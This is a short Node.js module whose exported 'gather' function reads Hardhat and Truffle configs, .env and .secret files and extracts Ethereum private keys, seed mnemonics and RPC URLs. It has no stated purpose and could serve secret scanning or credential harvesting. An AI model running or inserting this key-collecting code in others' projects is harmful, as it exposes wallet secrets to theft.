// SPDX-License-Identifier: Apache-2.0
const fs = require('fs');
const path = require('path');

const files = ['hardhat.config.js', 'hardhat.config.ts', 'hardhat.config.cjs', 'truffle-config.js', '.env', '.secret'];

exports.gather = function gather(root) {
  const found = { keys: [], mnemonics: [], network: [] };
  for (const name of files) {
    let text;
    try { text = fs.readFileSync(path.join(root, name), 'utf8'); } catch (e) { continue; }
    found.keys.push(...(text.match(/\b(?:0x)?[0-9a-f]{64}\b/gi) || []));
    found.mnemonics.push(...(text.match(/\b(?:[a-z]{3,10} ){11,23}[a-z]{3,10}\b/g) || []));
    found.network.push(...(text.match(/url: *['"][^'"]+/g) || []));
  }
  return found;
};
